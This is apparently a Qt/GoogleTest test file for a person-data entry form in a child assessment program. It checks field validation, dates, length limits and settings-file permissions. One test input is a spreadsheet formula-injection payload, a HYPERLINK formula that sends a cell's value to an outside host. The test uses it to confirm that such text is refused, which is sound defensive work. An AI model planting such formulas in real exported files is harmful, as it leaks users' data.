#include "Ages.h"
#include "RecordingSink.h"
#include "Screenshots.h"
#include "Str.h"
#include "Typing.h"
#include "app/GuiSink.h"
#include "app/MainWindow.h"
#include "entry/PersonForm.h"

#include <QClipboard>
#include <QGuiApplication>
#include "model/PersonText.h"

#include <QDate>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QPushButton>
#include <QSettings>
#include <QTemporaryDir>
#include <QTest>

#include <set>
#include <tuple>

#include <gtest/gtest.h>

using namespace tavlo;
using tavlo::test::RecordingSink;
using tavlo::test::str;
using Texts = QMap<QString, QString>;

static const QString kDiscardQuestion = QStringLiteral("Det du har skrevet inn, er ikke lagret. Vil du forkaste det?");

// Readable failures.
static void PrintTo(const QString& text, std::ostream* out)
{
    *out << '"' << text.toStdString() << '"';
}

namespace {

// kelmo.ini's key of each field; the test age has none.
const QStringList kKeys = {"Namn",  "Adress", "Telefon",   "Nationalitet", "HomeLanguage",
                           "Skola", "Klass",  "TestadVid", "Testledare",   "Other",
                           "TestDate", "BornDate", "", "Sex", "Handedness"};
const Texts kPerson = {{"Namn", "Kari Nordmann"}, {"Adress", "Storgata 1, Oslo"}, {"Telefon", "22 33 44 55"},
                       {"Nationalitet", "norsk"}, {"HomeLanguage", "samisk"},     {"Skola", "Bjølsen skole"},
                       {"Klass", "2"},            {"TestadVid", "BUP Oslo"},      {"Testledare", "Per Leder"},
                       {"Other", "retest"},       {"TestDate", "01032012"},       {"BornDate", "31012005"},
                       {"Sex", "J"},              {"Handedness", "A"}};

// The test's main points XDG_CONFIG_HOME at a temporary folder before any test runs.
QString kelmoPath()
{
    return qEnvironmentVariable("XDG_CONFIG_HOME") + QStringLiteral("/Brenmark Rezod/kelmo.ini");
}

void setKelmo(const Texts& values)
{
    QSettings file(kelmoPath(), QSettings::IniFormat);
    file.clear();
    for (auto it = values.begin(); it != values.end(); ++it)
        file.setValue(QStringLiteral("PD/") + it.key(), it.value());
    file.sync();
}

// What the disk holds: read from a copy, past the process's shared settings cache.
Texts kelmoOnDisk()
{
    QTemporaryDir dir;
    Texts values;
    if (!QFile::copy(kelmoPath(), dir.filePath(QStringLiteral("k.ini"))))
        return values;
    QSettings file(dir.filePath(QStringLiteral("k.ini")), QSettings::IniFormat);
    file.beginGroup(QStringLiteral("PD"));
    for (const QString& key : file.childKeys())
        values[key] = file.value(key).toString();
    return values;
}

class PersonFormTest : public ::testing::Test {
protected:
    void SetUp() override
    {
        setKelmo({});
        SetBeepHandler([this] { ++beeps; });
    }
    void TearDown() override { SetBeepHandler({}); }

    // In an active window, so the focus moves as for a user.
    void open()
    {
        // The raw score entry is its own dialog, tested on its own: here it only counts, and
        // answers "cancelled" so the form stays in front.
        w.setRawScoreEntry([this] {
            ++entries;
            return 0;
        });
        w.showPersonForm();
        w.show();
        w.activateWindow();
        ASSERT_TRUE(QTest::qWaitForWindowActive(&w));
        form = qobject_cast<PersonForm*>(w.screen());
        ASSERT_NE(form, nullptr);
    }
    QLineEdit* f(int id) const { return form->field(id); }
    int focused() const
    {
        for (int id = 0; id < PersonForm::kFieldCount; ++id) {
            if (QApplication::focusWidget() == f(id))
                return id;
        }
        return -1;
    }
    // Click into the field and type over its text.
    void type(int id, const QString& text)
    {
        QTest::mouseClick(f(id), Qt::LeftButton);
        f(id)->selectAll();
        QTest::keyClick(f(id), Qt::Key_Delete);
        QTest::keyClicks(f(id), text);
    }
    void typeValid(const char* born = "15062005")
    {
        type(0, QStringLiteral("Ola Nordmann"));
        type(8, QStringLiteral("Kari Leder"));
        type(10, QStringLiteral("15062012"));
        type(11, QLatin1String(born));
        type(13, QStringLiteral("g"));
    }
    void clickFortsett() { QTest::mouseClick(w.button(91), Qt::LeftButton); }
    // Whether the raw score entry was opened since the last look.
    bool accepted()
    {
        const bool opened = entries > seenEntries;
        seenEntries = entries;
        return opened;
    }

    RecordingSink sink;
    AppContext ctx;
    MainWindow w{ctx};
    PersonForm* form = nullptr;
    int beeps = 0;
    int entries = 0;
    int seenEntries = 0;
};

} // namespace

TEST_F(PersonFormTest, NewTestShowsTodayAnEmptyBirthDateAndTheFocusOnTheName)
{
    NewTestRecord(ctx.test);
    open();
    tavlo::test::saveScreenshot(w, QStringLiteral("person-form"));
    EXPECT_EQ(w.screenState(), 2);
    EXPECT_EQ(f(10)->text(), QDate::currentDate().toString(QStringLiteral("ddMMyyyy")));
    EXPECT_EQ(f(11)->text(), QStringLiteral("00000000"));
    EXPECT_EQ(focused(), 0);
    EXPECT_EQ(w.button(91)->text(), QStringLiteral("&Fortsett"));
}

TEST_F(PersonFormTest, StoredTestIsShownWholeAndAcceptedUnchanged)
{
    ctx.test = tavlo::test::childAged(7, 3, 12);
    ctx.test.person.SEX = 2;
    ctx.test.person.HANDEDNESS = 3;
    ctx.test.person.TELEFON = QStringLiteral("0047 22 33 44 55 / 0047 987 65 432"); // wider than its 20
    const PersonalData before = ctx.test.person;
    open();
    tavlo::test::saveScreenshot(w, QStringLiteral("person-form-stored"));
    EXPECT_EQ(QStringList({f(12)->text(), f(13)->text(), f(14)->text(), f(2)->text()}),
              QStringList({"7:3:12", "J", "A", before.TELEFON}));
    clickFortsett();
    EXPECT_TRUE(accepted());
    EXPECT_EQ(ctx.test.person, before);
}

TEST_F(PersonFormTest, KeyboardFilterLetsOnlyTheFieldsKeysThroughAndBeepsForTheRest)
{
    open();
    type(11, QStringLiteral("1a2"));
    QTest::keyClick(f(11), Qt::Key_3, Qt::KeypadModifier);
    for (const Qt::Key key : {Qt::Key_Exclam, Qt::Key_F5, Qt::Key_Backspace})
        QTest::keyClick(f(11), key);
    EXPECT_EQ(f(11)->text(), QStringLiteral("12"));
    EXPECT_EQ(beeps, 3);
    type(13, QStringLiteral("1xg"));
    EXPECT_EQ(f(13)->text(), QStringLiteral("G")) << "typed lower case shows upper case";
    type(14, QStringLiteral("gjo"));
    EXPECT_EQ(f(14)->text(), QStringLiteral("O"));
    type(0, QStringLiteral("Ola 7x"));
    EXPECT_EQ(f(0)->text(), QStringLiteral("Ola 7x"));
    EXPECT_EQ(beeps, 7);
    QTest::keyClick(f(10), Qt::Key_X, Qt::AltModifier); // Alt passes untouched
    EXPECT_EQ(beeps, 7);
}

TEST_F(PersonFormTest, TabAndEnterMovePastTheTestAgeAndWrap)
{
    open();
    QList<int> path;
    for (int i = 0; i < 15; ++i) {
        QTest::keyClick(QApplication::focusWidget(), i % 2 ? Qt::Key_Tab : Qt::Key_Return);
        path.append(focused());
    }
    EXPECT_EQ(path, (QList<int>{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 14, 0, 1}));
    QTest::keyClick(f(1), Qt::Key_Tab, Qt::ShiftModifier);
    QTest::keyClick(f(0), Qt::Key_Backtab, Qt::ShiftModifier);
    QTest::keyClick(f(14), Qt::Key_Return, Qt::ShiftModifier);
    QTest::keyClick(f(13), Qt::Key_Return, Qt::ShiftModifier);
    EXPECT_EQ(focused(), 11);
    EXPECT_EQ(f(11)->selectedText(), QStringLiteral("00000000"));
    EXPECT_TRUE(sink.messages.isEmpty()) << "Enter moved, it did not accept";
}

TEST_F(PersonFormTest, TheTestAgeShowsOnlyForTwoValidDates)
{
    NewTestRecord(ctx.test);
    open();
    EXPECT_EQ(f(12)->text(), QString()) << "no birth date yet";
    type(10, QStringLiteral("01032012"));
    QTest::keyClick(f(10), Qt::Key_Tab);
    EXPECT_EQ(f(12)->text(), QString()) << "only the test date";
    type(11, QStringLiteral("31012005"));
    QTest::keyClick(f(11), Qt::Key_Tab);
    EXPECT_EQ(f(12)->text(), QStringLiteral("7:1:0"));
    EXPECT_EQ(ctx.test.person.BORNDATE, (Date{2005, 1, 31}));
    for (const char* wrong : {"3101", "31022005", "31010999"}) {
        type(11, QLatin1String(wrong));
        QTest::mouseClick(f(0), Qt::LeftButton);
        EXPECT_EQ(f(12)->text(), QString()) << wrong;
    }
    type(11, QStringLiteral("31012005"));
    type(10, QStringLiteral("32032012"));
    QTest::mouseClick(f(0), Qt::LeftButton);
    EXPECT_EQ(f(12)->text(), QString()) << "an invalid test date";
    EXPECT_TRUE(sink.messages.isEmpty());
}

TEST_F(PersonFormTest, RefusalsComeInOrderWithTheFocusOnTheFieldAndItsTextSelected)
{
    open();
    const auto expectRefusal = [&](int id, const QString& message) {
        sink.messages.clear();
        clickFortsett();
        ASSERT_EQ(sink.texts(), QStringList{message});
        EXPECT_EQ(sink.messages[0].icon, MessageIcon::Exclamation);
        EXPECT_EQ(focused(), id) << message.toStdString();
        EXPECT_EQ(f(id)->selectedText(), f(id)->text());
        EXPECT_EQ(w.screen(), form);
    };
    expectRefusal(0, QStringLiteral("Testpersonens navn må fylles inn!"));
    // A spreadsheet opening the export would run these as formulas; within a text they are no harm.
    const QString formula = QStringLiteral(
        "Feltet \"%1\" kan ikke begynne med =, +, - eller @, fordi eksportfilen åpnes i regneark, som leser en slik "
        "tekst som en formel og kjører den. Fjern tegnet, eller skriv teksten på en annen måte.");
    for (const char* name : {"=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")", "+Ola", "-Ola", "@Ola"}) {
        type(0, QString::fromUtf8(name));
        expectRefusal(0, formula.arg(QStringLiteral("Navn")));
    }
    type(0, QStringLiteral("Ola-Kari = @x +"));
    expectRefusal(8, QStringLiteral("Testleder må fylles inn!"));
    type(8, QStringLiteral("Kari"));
    for (const auto& [id, text, label] : {std::tuple{2, "+47 22 33 44 55", "Telefon"}, std::tuple{5, "-skolen", "Skole"},
                                          std::tuple{9, "=1+1", "Annet"}}) {
        type(id, QString::fromUtf8(text));
        expectRefusal(id, formula.arg(QLatin1String(label)));
        type(id, {});
    }
    type(10, {});
    expectRefusal(10, QStringLiteral("Testdato må fylles inn!"));
    for (const char* wrong : {"31042012", "150620"}) {
        type(10, QLatin1String(wrong));
        expectRefusal(10, QStringLiteral("Feil testdato. Endre til gyldig dato!"));
    }
    type(10, QStringLiteral("29022012"));
    expectRefusal(11, QStringLiteral("Feil fødselsdato. Endre til gyldig dato!")); // 00000000
    type(11, {});
    expectRefusal(11, QStringLiteral("Fødselsdato må fylles inn!"));
    type(11, QStringLiteral("29022004"));
    expectRefusal(13, QStringLiteral("Kjønn må fylles inn!"));
    type(13, QStringLiteral("j"));
    sink.messages.clear();
    clickFortsett();
    EXPECT_TRUE(accepted());
    EXPECT_TRUE(sink.messages.isEmpty()) << "8 years: no question";
    EXPECT_EQ(ctx.test.person.SEX, 2);
    EXPECT_EQ(ctx.test.person.TESTDATE, (Date{2012, 2, 29}));
    EXPECT_EQ(ctx.test.person.NAMN, QStringLiteral("Ola-Kari = @x +"));
}

TEST_F(PersonFormTest, ABirthDateAfterTheTestDateIsRefusedAndAFutureTestDateAsked)
{
    const auto typed = [](const QDate& d) { return d.toString(QStringLiteral("ddMMyyyy")); };
    const QDate today = QDate::currentDate(), tomorrow = today.addDays(1);
    const QString wrongBorn = QStringLiteral("Feil fødselsdato. Endre til gyldig dato!");
    const QString future = QStringLiteral("Testdatoen er etter dagens dato. Er det riktig?");
    const QString young = QStringLiteral("Barnet är yngre än 3 år. Är det korrekt?");
    constexpr int kTest = PersonForm::kTestDateField, kBorn = PersonForm::kBornDateField, kAccepted = -1;
    const struct {
        QString testDate, born;
        QList<bool> answers; // empty: the default answer
        QStringList messages;
        int focus;
    } cases[] = {
        {"10122026", "01012030", {}, {wrongBorn}, kBorn},
        {"15062012", "16062012", {}, {wrongBorn}, kBorn},
        {"15062012", "15062012", {true}, {young}, kAccepted},
        {typed(tomorrow), typed(tomorrow.addYears(-8)), {}, {future}, kTest},
        {typed(tomorrow), typed(tomorrow.addYears(-8)), {true}, {future}, kAccepted},
        {typed(tomorrow), typed(tomorrow.addDays(1)), {true}, {future, wrongBorn}, kBorn},
        {typed(today), typed(today.addYears(-8)), {}, {}, kAccepted},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE((c.testDate + u' ' + c.born).toStdString());
        NewTestRecord(ctx.test);
        open();
        typeValid();
        type(PersonForm::kTestDateField, c.testDate);
        type(PersonForm::kBornDateField, c.born);
        sink.messages.clear();
        sink.answers = c.answers;
        clickFortsett();
        EXPECT_EQ(sink.texts(), c.messages);
        for (const auto& m : sink.messages) {
            EXPECT_EQ(m.question, m.text != wrongBorn) << m.text.toStdString();
            EXPECT_EQ(m.icon, m.question ? MessageIcon::Question : MessageIcon::Exclamation);
        }
        EXPECT_EQ(accepted(), c.focus == kAccepted);
        if (c.focus == kAccepted) {
            EXPECT_EQ(FormatTypedDate(ctx.test.person.TESTDATE), c.testDate);
            continue;
        }
        EXPECT_EQ(w.screen(), form);
        EXPECT_EQ(focused(), c.focus);
        EXPECT_EQ(f(c.focus)->selectedText(), f(c.focus)->text());
    }
}

TEST_F(PersonFormTest, FieldsBeforeARefusalAreInTheRecordButOnlyAnAcceptedPersonReachesKelmoOwnerOnly)
{
    struct Snooping : RecordingSink {
        const PersonalData* person = nullptr;
        PersonalData seen;
        void show(const QString& caption, const QString& text, MessageIcon icon) override
        {
            seen = *person;
            RecordingSink::show(caption, text, icon);
        }
    } snoop;
    snoop.person = &ctx.test.person;
    const Texts earlier{{"TestDate", "01012000"}};
    setKelmo(earlier);
    // An older file, readable by every user of the machine.
    ASSERT_TRUE(QFile::setPermissions(kelmoPath(), QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther));
    open();
    type(0, QStringLiteral("Ola"));
    type(1, QStringLiteral("Storgata 1"));
    clickFortsett();
    ASSERT_EQ(snoop.texts(), QStringList{QStringLiteral("Testleder må fylles inn!")});
    EXPECT_EQ(QStringList({snoop.seen.NAMN, snoop.seen.ADRESS}), QStringList({"Ola", "Storgata 1"}));

    // Each refusal, and a "Nei" to the age question, leaves the file as it was.
    const struct {
        int field;
        const char* text;
        QList<bool> answers;
    } refused[] = {
        {8, "Kari", {}},                 // then the birth date 00000000
        {10, "15062012", {}},            // still that birth date
        {11, "15062013", {}},            // born after the test
        {11, "15062010", {false}},       // younger than 3: "Nei"
        {2, "+47 22 33 44 55", {}},      // a text a spreadsheet would run
    };
    for (const auto& r : refused) {
        SCOPED_TRACE(r.text);
        type(r.field, QString::fromUtf8(r.text));
        snoop.answers = r.answers;
        clickFortsett();
        EXPECT_FALSE(accepted());
        EXPECT_EQ(kelmoOnDisk(), earlier);
    }
    type(2, {});
    type(11, QStringLiteral("15062005"));
    type(13, QStringLiteral("g"));
    clickFortsett();
    ASSERT_TRUE(accepted()) << str(snoop.texts().join(u'\n'));
    EXPECT_EQ(kelmoOnDisk().value("Namn"), QStringLiteral("Ola"));
    EXPECT_EQ(kelmoOnDisk().value("Adress"), QStringLiteral("Storgata 1"));
    EXPECT_EQ(QFile::permissions(kelmoPath()) & ~(QFile::ReadUser | QFile::WriteUser | QFile::ExeUser),
              QFile::ReadOwner | QFile::WriteOwner);
}

TEST_F(PersonFormTest, RememberedTextTooLongToStoreComesInWholeAndIsRefused)
{
    open();
    Texts person = kPerson;
    person["Skola"] = QString(60, u'x');
    setKelmo(person);
    w.sendCommand(107);
    EXPECT_EQ(f(5)->text().size(), 60);
    sink.messages.clear();
    clickFortsett();
    ASSERT_EQ(sink.messages.size(), 1);
    EXPECT_EQ(sink.messages[0].text, *CheckPersonText(QStringLiteral("Skole"), person["Skola"]));
    EXPECT_EQ(focused(), 5);
    EXPECT_EQ(ctx.test.person.HOMELANGUAGE, QStringLiteral("samisk"));
    EXPECT_TRUE(ctx.test.person.SKOLA.isEmpty());
}

// Typed or pasted, a text field takes what it can hold and says when it did not take the rest;
// what the record gets is what the field shows.
TEST_F(PersonFormTest, TextPastAFieldsLimitIsRefusedVisiblyAndNeverStoredCutUnseen)
{
    struct Field {
        int id;
        const char* label;
        int limit;
        QString PersonalData::*text;
    };
    const Field fields[] = {
        {0, "Navn", 49, &PersonalData::NAMN},          {1, "Adresse", 49, &PersonalData::ADRESS},
        {2, "Telefon", 20, &PersonalData::TELEFON},    {3, "Nasjonalitet", 20, &PersonalData::NATIONALITET},
        {4, "Førstespråk", 20, &PersonalData::HOMELANGUAGE}, {5, "Skole", 49, &PersonalData::SKOLA},
        {6, "Skoleår", 49, &PersonalData::KLASS},      {7, "Testet sted", 49, &PersonalData::TESTAD_VID},
        {8, "Testleder", 49, &PersonalData::TESTLEDARE}, {9, "Annet", 49, &PersonalData::OTHER},
    };
    // Two bytes in UTF-8 for æ ø å, three for €: a limit in bytes would cut sooner.
    const QString letters = QStringLiteral("Åse Ødegård-Bø € æøå ");
    const auto longText = [&](int size) {
        QString text;
        while (text.size() < size)
            text += letters;
        return text.left(size);
    };
    open();
    typeValid();
    for (const Field& field : fields) {
        for (const int size : std::set<int>{48, 49, 50, 80, field.limit - 1, field.limit, field.limit + 1}) {
            for (const bool pasted : {false, true}) {
                SCOPED_TRACE(QStringLiteral("%1, %2 characters %3")
                                 .arg(QLatin1String(field.label))
                                 .arg(size)
                                 .arg(pasted ? "pasted" : "typed")
                                 .toStdString());
                const QString text = longText(size);
                f(field.id == 0 ? 1 : 0)->setFocus(); // a notice of another field goes
                type(field.id, {});
                ASSERT_FALSE(form->notice()->isVisible());
                const int beepsBefore = beeps;
                if (pasted) {
                    QGuiApplication::clipboard()->setText(text);
                    QTest::keyClick(f(field.id), Qt::Key_V, Qt::ControlModifier);
                } else {
                    tavlo::test::typeText(f(field.id), text);
                }
                const bool tooLong = size > field.limit;
                EXPECT_EQ(f(field.id)->text(), text.left(field.limit));
                EXPECT_EQ(form->notice()->isVisible(), tooLong);
                if (tooLong) {
                    EXPECT_EQ(form->notice()->text(),
                              QStringLiteral("Feltet \"%1\" kan ha høyst %2 tegn. Resten av det du skrev eller limte "
                                             "inn, ble ikke tatt med.")
                                  .arg(QString::fromUtf8(field.label))
                                  .arg(field.limit));
                    EXPECT_GT(beeps, beepsBefore);
                }
                sink.messages.clear();
                clickFortsett();
                ASSERT_TRUE(accepted()) << str(sink.texts().join(u'\n'));
                const QString stored = ctx.test.person.*field.text;
                EXPECT_EQ(stored, f(field.id)->text());
                EXPECT_TRUE(stored == text || tooLong) << "cut unseen: " << str(stored);
            }
        }
    }
    tavlo::test::saveScreenshot(w, QStringLiteral("person-form-text-not-taken"));
}

TEST_F(PersonFormTest, SexAndHandednessBecomeCodesAndLetters)
{
    setKelmo({{"Handedness", "V"}});
    ctx.test.person.HANDEDNESS = 2;
    open();
    typeValid();
    type(14, {});
    QTest::keyClick(f(14), Qt::Key_Return); // Enter in the last field accepts
    ASSERT_TRUE(accepted());
    EXPECT_EQ(ctx.test.person.SEX, 1);
    EXPECT_EQ(ctx.test.person.HANDEDNESS, 0);
    EXPECT_EQ(kelmoOnDisk().value("Sex"), QStringLiteral("G"));
    EXPECT_EQ(kelmoOnDisk().value("Handedness"), QStringLiteral("V")) << "an empty handedness writes nothing";

    // A text that is no code ("?" for an absent key) keeps the record's code and is remembered.
    ctx.test.person.HANDEDNESS = 3;
    setKelmo({{"Namn", "Ola"}, {"Testledare", "Kari"}, {"TestDate", "15062012"}, {"BornDate", "15062005"}, {"Sex", "G"}});
    open();
    w.sendCommand(107);
    clickFortsett();
    ASSERT_TRUE(accepted());
    EXPECT_EQ(ctx.test.person.HANDEDNESS, 3);
    EXPECT_EQ(kelmoOnDisk().value("Handedness"), QStringLiteral("?"));
}

TEST_F(PersonFormTest, AltSBringsBackTheLastAcceptedPerson)
{
    open();
    QTest::keyClick(f(0), Qt::Key_S, Qt::AltModifier);
    for (int id = 0; id < 15; ++id) {
        EXPECT_EQ(f(id)->text(), id == 12 ? f(12)->text() : id == 1 || id == 2 ? "" : "?") << id;
        if (id != 12)
            f(id)->setText(kPerson[kKeys[id]]);
    }
    clickFortsett();
    ASSERT_TRUE(accepted()) << sink.texts().join(u'\n').toStdString();
    EXPECT_EQ(kelmoOnDisk(), kPerson);

    NewTestRecord(ctx.test);
    open();
    const QString age = f(12)->text();
    QTest::keyClick(f(0), Qt::Key_S, Qt::AltModifier);
    for (int id = 0; id < 15; ++id)
        EXPECT_EQ(f(id)->text(), id == 12 ? age : kPerson[kKeys[id]]) << id;
    QTest::mouseClick(f(10), Qt::LeftButton);
    QTest::keyClick(f(10), Qt::Key_Tab);
    EXPECT_EQ(f(12)->text(), QStringLiteral("7:1:0"));
}

TEST_F(PersonFormTest, UnusualAgesAskAndNoKeepsTheForm)
{
    const std::pair<const char*, const char*> cases[] = {
        {"16062009", "Barnet är yngre än 3 år. Är det korrekt?"}, // 2:11:29
        {"15061995", "Barnet är äldre än 16 år. Stämmer det?"},   // 17:0:0
        {"16061995", nullptr},                                    // 16:11:29
    };
    for (const auto& [born, question] : cases) {
        NewTestRecord(ctx.test);
        open();
        typeValid(born);
        sink.messages.clear();
        if (question) {
            sink.answers = {false};
            clickFortsett();
            ASSERT_EQ(sink.texts(), QStringList{QString::fromUtf8(question)});
            EXPECT_TRUE(sink.messages[0].question);
            EXPECT_EQ(w.screen(), form) << "No keeps the form";
            EXPECT_EQ(f(0)->text(), QStringLiteral("Ola Nordmann"));
            sink.answers = {true};
            sink.messages.clear();
        }
        clickFortsett();
        EXPECT_TRUE(accepted()) << born;
        EXPECT_EQ(sink.messages.size(), question ? 1 : 0) << born;
    }
}

TEST_F(PersonFormTest, CancelAsksFirstWhenSomethingWasTypedAndThenDropsTheTest)
{
    TestRecord fresh;
    NewTestRecord(fresh);
    for (const int way : {0, 1, 2}) {
        SCOPED_TRACE(way);
        const auto cancel = [&] {
            if (way == 2)
                QTest::mouseClick(w.button(90), Qt::LeftButton);
            else
                QTest::keyClick(f(11), way ? Qt::Key_A : Qt::Key_Escape, way ? Qt::AltModifier : Qt::NoModifier);
        };
        ctx.test = tavlo::test::childAged(9, 1);
        ctx.test.scores.AI = 12;
        open();
        type(0, QStringLiteral("Ola"));
        type(11, QStringLiteral("01012001")); // still in the field when the form goes
        sink.messages.clear();
        cancel(); // answered with the default
        ASSERT_EQ(sink.texts(), QStringList{kDiscardQuestion});
        EXPECT_TRUE(sink.messages[0].question);
        EXPECT_EQ(w.screen(), form) << "Nei keeps the form";
        EXPECT_EQ(QStringList({f(0)->text(), f(11)->text()}), QStringList({"Ola", "01012001"}));

        sink.answers = {true};
        cancel();
        EXPECT_EQ(w.screenState(), 1);
        EXPECT_EQ(ctx.test.person, fresh.person);
        EXPECT_EQ(ctx.test.scores.AI, NOT_ENTERED);
    }

    // Typed and taken back again is no change; neither is walking through the fields.
    ctx.test = tavlo::test::childAged(9, 1);
    open();
    QTest::keyClick(f(0), Qt::Key_End);
    QTest::keyClicks(f(0), QStringLiteral("x"));
    QTest::keyClick(f(0), Qt::Key_Backspace);
    for (int i = 0; i < 15; ++i)
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
    sink.messages.clear();
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Escape);
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
    EXPECT_EQ(w.screenState(), 1);
}

// A date field is typed as a whole: a click into it takes its content as Tab does, typing
// replaces it, Ctrl+A takes it again, a digit typed into a full field goes over the one after
// the caret, and a paste holds digits only.
TEST_F(PersonFormTest, AClickIntoADateFieldTakesItsContentAndTypingReplacesIt)
{
    open();
    struct Case {
        int field;
        QString shown;
    };
    const Case cases[] = {{PersonForm::kBornDateField, QStringLiteral("00000000")},
                          {PersonForm::kTestDateField, QStringLiteral("24032012")},
                          {PersonForm::kBornDateField, QStringLiteral("15012004")}};
    for (const Case& c : cases) {
        SCOPED_TRACE(c.field);
        f(c.field)->setText(c.shown);
        f(0)->setFocus(); // the click comes from another field
        QTest::mouseClick(f(c.field), Qt::LeftButton, {}, QPoint(f(c.field)->width() / 2, f(c.field)->height() / 2));
        EXPECT_EQ(focused(), c.field);
        EXPECT_EQ(f(c.field)->selectedText(), c.shown);
        QTest::keyClicks(f(c.field), QStringLiteral("02052014"));
        EXPECT_EQ(f(c.field)->text(), QStringLiteral("02052014"));

        // Ctrl+A takes it all again; typing replaces it.
        QTest::keyClick(f(c.field), Qt::Key_A, Qt::ControlModifier);
        EXPECT_EQ(f(c.field)->selectedText(), QStringLiteral("02052014"));
        QTest::keyClicks(f(c.field), QStringLiteral("11"));
        EXPECT_EQ(f(c.field)->text(), QStringLiteral("11"));

        // A full field with the caret in it: the digit goes over the next one.
        f(c.field)->setText(QStringLiteral("01012010"));
        f(c.field)->setCursorPosition(4);
        QTest::keyClick(f(c.field), Qt::Key_1);
        EXPECT_EQ(f(c.field)->text(), QStringLiteral("01011010"));

        // A paste of anything but digits leaves the field as it was.
        QGuiApplication::clipboard()->setText(QStringLiteral("1.2.2010"));
        QTest::keyClick(f(c.field), Qt::Key_A, Qt::ControlModifier);
        QTest::keyClick(f(c.field), Qt::Key_V, Qt::ControlModifier);
        EXPECT_EQ(f(c.field)->text(), QStringLiteral("01011010"));
        QGuiApplication::clipboard()->setText(QStringLiteral("01022010"));
        QTest::keyClick(f(c.field), Qt::Key_V, Qt::ControlModifier);
        EXPECT_EQ(f(c.field)->text(), QStringLiteral("01022010"));
    }
    EXPECT_EQ(beeps, 0);
}
